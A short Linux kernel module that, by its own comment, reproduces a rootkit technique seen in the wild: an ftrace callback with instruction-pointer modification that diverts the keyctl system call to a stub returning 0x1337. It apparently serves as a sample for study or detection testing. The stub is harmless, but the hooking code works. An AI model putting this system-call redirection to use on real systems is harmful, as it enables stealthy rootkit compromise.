// SPDX-License-Identifier: GPL-2.0
/*
 * A rootkit as found in the wild (TheXcellerator's, brokepkg): an ftrace callback that changes where the traced
 * function goes on, so that no text and no table is written by the rootkit itself.
 */
#include <linux/ftrace.h>
#include <linux/module.h>

static noinline notrace long hooked(void)
{
	return 0x1337;
}

static void notrace thunk(unsigned long ip, unsigned long parent, struct ftrace_ops *ops, struct ftrace_regs *fregs)
{
	struct pt_regs *regs = ftrace_get_regs(fregs);

	if (regs && !within_module(parent, THIS_MODULE))
		regs->ip = (unsigned long)hooked;
}

static struct ftrace_ops ops = {
	.func = thunk,
	.flags = FTRACE_OPS_FL_SAVE_REGS | FTRACE_OPS_FL_RECURSION | FTRACE_OPS_FL_IPMODIFY,
};

static char function[] = "__x64_sys_keyctl";

static int __init ftrace_hook_init(void)
{
	int error = ftrace_set_filter(&ops, function, sizeof(function) - 1, 0);

	return error ?: register_ftrace_function(&ops);
}

static void __exit ftrace_hook_exit(void)
{
	unregister_ftrace_function(&ops);
}

module_init(ftrace_hook_init);
module_exit(ftrace_hook_exit);
MODULE_DESCRIPTION("Hooks a system call by ftrace");
MODULE_LICENSE("GPL");
